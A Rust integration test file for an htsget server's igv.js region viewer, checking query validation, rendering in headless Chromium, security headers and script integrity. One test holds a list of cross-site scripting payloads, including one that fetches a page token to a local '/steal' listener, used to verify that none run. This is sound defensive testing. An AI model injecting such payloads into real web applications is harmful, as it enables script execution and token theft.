//! The region viewer: its page loads the demo region through the server's own htsget
//! endpoints in igv.js (headless Chromium) and shows the reads and variants samtools and
//! bcftools count; a screenshot is saved under `target/`.

use std::path::Path;

use crate::{
    common::{Tool, require},
    igv::{browser_and_igv, chromium, expected, static_server},
    server::{TestServer, get},
};

const LOCUS: &str = "chr1:10001-12000";

/// Headless Chromium, and igv.js served from a local site.
struct Igv {
    browser: &'static str,
    /// The igv.js file.
    file: std::path::PathBuf,
    /// Its URL on the local site.
    url: String,
    _site: tempfile::TempDir,
}

/// [`Igv`], if Chromium and igv.js are installed.
fn local_igv() -> Option<Igv> {
    let site = tempfile::tempdir().unwrap();
    let (browser, file) = browser_and_igv(site.path())?;
    std::fs::copy(&file, site.path().join("igv.min.js")).unwrap();
    let port = static_server(site.path().to_owned());
    Some(Igv {
        browser,
        file,
        url: format!("http://127.0.0.1:{port}/igv.min.js"),
        _site: site,
    })
}

#[test]
fn viewer_refuses_bad_queries() {
    let server = TestServer::start(None, |_| {});
    for target in [
        "/viewer",
        "/viewer?reads=../x",
        "/viewer?reads=sample&reference=x.bam",
    ] {
        let reply = get(server.addr, target);
        assert_eq!(reply.status, 400, "{target}");
        assert_eq!(reply.error_name(), "InvalidInput");
    }
    let page = get(
        server.addr,
        &format!("/viewer?reads=sample&variants=sample&locus={LOCUS}"),
    );
    assert_eq!(page.status, 200);
    assert_eq!(
        page.header("content-type"),
        Some("text/html; charset=utf-8")
    );
    let html = String::from_utf8(page.body).unwrap();
    assert!(html.contains(htsget_server::config::DEFAULT_IGV_JS));
    // The reference: the demo's ref.fa and its index, through the data endpoint.
    assert!(
        html.contains("/data/ref.fa\"") && html.contains("/data/ref.fa.fai\""),
        "{html}"
    );
    assert_eq!(get(server.addr, "/data/ref.fa.fai").status, 200);
}

#[test]
fn viewer_shows_the_region_in_igv_js() {
    if !require(&[Tool::Samtools, Tool::Bcftools]) {
        return;
    }
    let Some(Igv {
        browser,
        url: igv_url,
        _site,
        ..
    }) = local_igv()
    else {
        return;
    };
    let server = TestServer::start(None, move |config| config.igv_js = igv_url);

    let page = format!(
        "{}/viewer?reads=sample&variants=sample&locus={LOCUS}",
        server.url
    );
    let dom = chromium(browser, &[&"--dump-dom".to_owned()], &page);
    let status = dom
        .split("<output id=\"status\"")
        .nth(1)
        .and_then(|rest| rest.split('>').next())
        .unwrap_or_else(|| panic!("no status in the page: {dom}"));
    let attribute = |name: &str| -> u64 {
        let value = status
            .split(&format!("{name}=\""))
            .nth(1)
            .and_then(|r| r.split('"').next());
        value
            .and_then(|v| v.parse().ok())
            .unwrap_or_else(|| panic!("{name} in {status}"))
    };
    assert!(status.contains("data-state=\"loaded\""), "{status}");
    let (reads, variants) = expected(&server.root);
    assert!(reads > 0 && variants > 0);
    assert_eq!(attribute("data-reads"), reads);
    assert_eq!(attribute("data-variants"), variants);

    let shot = Path::new(env!("CARGO_TARGET_TMPDIR")).join("viewer.png");
    let _ = std::fs::remove_file(&shot);
    chromium(
        browser,
        &[
            &format!("--screenshot={}", shot.display()),
            &"--window-size=1280,900".to_owned(),
        ],
        &page,
    );
    let size = std::fs::metadata(&shot).map(|m| m.len()).unwrap_or(0);
    assert!(size > 10_000, "no screenshot at {}", shot.display());
    println!(
        "viewer: {reads} reads, {variants} variants; screenshot {}",
        shot.display()
    );
}

/// What a payload does when it runs: marks the page, and calls the test's listener.
const RUN: &str = "document.documentElement.dataset.pwned=1";

/// Attempts at running script (or reaching another host) through the viewer's parameters;
/// `PORT` is the test's listener, `RUN` what a payload does.
const PAYLOADS: &[&str] = &[
    r#"<img src=x onerror="RUN;fetch('http:'+String.fromCharCode(47,47)+'127.0.0.1:PORT/steal?t='+document.getElementById('token').value)">"#,
    "<script>RUN</script>",
    "</script><script>RUN</script>",
    "<!--<script>",
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "javascript:RUN",
    "\"><img src=x onerror=RUN>",
    "'><img src=x onerror=RUN>",
    "<iframe src=\"javascript:parent.RUN\"></iframe>",
    "<body onload=RUN>",
    "<details open ontoggle=RUN>",
    "&lt;img src=x onerror=RUN&gt;",
    "%3Cimg%20src%3Dx%20onerror%3DRUN%3E",
    "\\u003cimg src=x onerror=RUN\\u003e",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
    "<input autofocus onfocus=RUN>",
    "<video><source onerror=RUN></video>",
    "${RUN}",
    "\"+(RUN)+\"",
    "\\\";RUN;//",
    "<style>@import 'http://127.0.0.1:PORT/css'</style>",
    "<img src=\"http://127.0.0.1:PORT/img\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://127.0.0.1:PORT/refresh\">",
    "<base href=\"http://127.0.0.1:PORT/\">",
    "</output><img src=x onerror=RUN>",
    "<object data=\"http://127.0.0.1:PORT/object\"></object>",
    "x\u{2028}RUN",
];

#[test]
fn viewer_parameters_never_run_as_script() {
    let Some(Igv {
        browser,
        url: igv_url,
        _site,
        ..
    }) = local_igv()
    else {
        return;
    };
    let server = TestServer::start(None, move |config| config.igv_js = igv_url);

    // The listener a payload would call: any connection to it is a failure.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let listening = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();

    let payloads: Vec<String> = PAYLOADS
        .iter()
        .map(|p| {
            p.replace("RUN", RUN)
                .replace("PORT", &listening.to_string())
        })
        .collect();
    let encode = |s: &str| form_urlencoded::byte_serialize(s.as_bytes()).collect::<String>();
    let (mut rendered, mut refused) = (0, 0);
    let mut pages = Vec::new();
    for (i, payload) in payloads.iter().enumerate() {
        let other = &payloads[(i + 1) % payloads.len()];
        pages.push(format!(
            "reads={}&variants={}&locus={LOCUS}",
            encode(payload),
            encode(other)
        ));
        pages.push(format!("reads=sample&locus={}", encode(payload)));
        pages.push(format!(
            "reads=sample&locus={LOCUS}&reference={}",
            encode(payload)
        ));
    }
    for query in &pages {
        let target = format!("/viewer?{query}");
        let reply = get(server.addr, &target);
        if reply.status != 200 {
            // Refused: a JSON error, which runs nothing.
            assert_eq!(reply.status, 400, "{target}");
            assert_eq!(
                reply.header("content-type"),
                Some("application/json"),
                "{target}"
            );
            refused += 1;
            continue;
        }
        let html = String::from_utf8_lossy(&reply.body).into_owned();
        assert!(
            !html.contains("<img") && !html.contains("<svg"),
            "{target}: {html}"
        );
        let dom = chromium(
            browser,
            &[&"--dump-dom".to_owned()],
            &format!("{}{target}", server.url),
        );
        assert!(
            dom.contains("id=\"status\""),
            "{target}: the page did not load: {dom}"
        );
        assert!(!dom.contains("data-pwned"), "{target} ran: {dom}");
        rendered += 1;
    }
    assert!(listener.accept().is_err(), "a payload reached the listener");
    println!("viewer: {rendered} pages rendered, {refused} refused, none ran a payload");
    assert!(rendered >= 20, "too few pages rendered: {rendered}");
}

#[test]
fn viewer_pages_carry_their_security_headers() {
    let server = TestServer::start(None, |_| {});
    let page = get(server.addr, &format!("/viewer?reads=sample&locus={LOCUS}"));
    assert_eq!(page.status, 200);
    let policy = page.header("content-security-policy").expect("a policy");
    let nonce = policy
        .split("'nonce-")
        .nth(1)
        .and_then(|rest| rest.split('\'').next())
        .expect("a script nonce");
    for directive in [
        "default-src 'none'",
        "object-src 'none'",
        "base-uri 'none'",
        "frame-ancestors 'none'",
        "script-src 'nonce-",
        "https://cdn.jsdelivr.net",
    ] {
        assert!(policy.contains(directive), "{directive} in {policy}");
    }
    assert!(!policy.contains("unsafe-eval") && !policy.contains("script-src 'unsafe-inline'"));
    assert_eq!(page.header("x-content-type-options"), Some("nosniff"));
    assert_eq!(page.header("referrer-policy"), Some("no-referrer"));
    let html = String::from_utf8(page.body.clone()).unwrap();
    // Every script carries the nonce; the default igv.js is pinned by its hash.
    assert_eq!(
        html.matches("<script").count(),
        html.matches(&format!("nonce=\"{nonce}\"")).count()
    );
    assert!(html.contains(&format!(
        "integrity=\"{}\"",
        htsget_server::config::DEFAULT_IGV_JS_INTEGRITY
    )));
    // A new nonce for each page.
    let again = get(server.addr, &format!("/viewer?reads=sample&locus={LOCUS}"));
    assert!(
        !again
            .header("content-security-policy")
            .unwrap()
            .contains(nonce)
    );
}

#[test]
fn viewer_checks_the_integrity_of_igv_js() {
    if !require(&[Tool::Samtools, Tool::Bcftools]) {
        return;
    }
    let Some(Igv {
        browser,
        file: igv,
        url: igv_url,
        _site,
    }) = local_igv()
    else {
        return;
    };
    let hash = {
        let output = crate::common::run(
            "openssl",
            &["dgst", "-sha384", "-binary", igv.to_str().unwrap()],
        );
        use base64::Engine as _;
        format!(
            "sha384-{}",
            base64::engine::general_purpose::STANDARD.encode(output.stdout)
        )
    };
    for (integrity, loads) in [(hash, true), ("sha384-AAAA".to_owned(), false)] {
        let url = igv_url.clone();
        let server = TestServer::start(None, move |config| {
            config.igv_js = url;
            config.igv_js_integrity = Some(integrity);
        });
        let page = format!("{}/viewer?reads=sample&locus={LOCUS}", server.url);
        let dom = chromium(browser, &[&"--dump-dom".to_owned()], &page);
        assert_eq!(dom.contains("data-state=\"loaded\""), loads, "{dom}");
        if !loads {
            assert!(dom.contains("igv.js did not load"), "{dom}");
        }
    }
}
